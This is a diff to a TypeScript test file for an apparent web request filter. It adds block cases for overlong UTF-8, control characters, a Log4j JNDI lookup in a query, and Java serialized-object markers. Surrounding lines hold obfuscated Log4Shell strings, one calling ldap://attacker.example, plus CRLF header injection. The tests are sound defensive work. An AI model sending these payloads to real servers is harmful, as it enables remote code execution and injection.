@@ -65,6 +65,9 @@ const CASES: Record<string, { blocks: Case[]; passes: Case[] }> = {
       { rawUrl: '/demo/demo.Person/a%00.json' },
       { rawUrl: '/demo/demo.Person/a%0d%0aSet-Cookie:x' },
       { rawUrl: '/demo/demo.Person?filter=a%00b' },
+      // Raw bytes as node hands them over (latin1 code units), no escape in sight: overlong UTF-8, a control character.
+      { rawUrl: '/demo/demo.Person/\u00c0\u00ae' },
+      { rawUrl: '/demo/demo.Person/a\u0001b' },
       header('x-thing', 'a\u0000b'),
     ],
     passes: [
@@ -136,6 +139,8 @@ const CASES: Record<string, { blocks: Case[]; passes: Case[] }> = {
   'knownBadInputs.log4j': {
     blocks: [
       header('user-agent', '${jndi:ldap://attacker.example/a}'),
+      // In the URL with nothing else a pre-check would see (no `//`, no escape).
+      { rawUrl: '/demo/demo.Person?q=${jndi:dns:x}' },
       header('x-api-version', '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x/a}'),
       header('referer', '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}'),
       header('x-forwarded-for', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}'),
@@ -161,6 +166,9 @@ const CASES: Record<string, { blocks: Case[]; passes: Case[] }> = {
       // Only the decoding starts a token (`%20` before it is a space once decoded).
       header('x-state', 'a%20rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'),
       { rawUrl: '/demo/demo.Person?state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' },
+      // Only the query's decoding starts a token: `+` is a space there (the URL's pre-check must see the `+`).
+      { rawUrl: '/demo/demo.Person?state=x+rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' },
+      { rawUrl: '/demo/demo.Person?state=x+aced0005737200' },
       json({ create: { schema: 'demo.Blob', data: { payload: 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ' } } }),
       json({ create: { schema: 'demo.Blob', data: { payload: 'ACED0005737200' } } }),
     ],
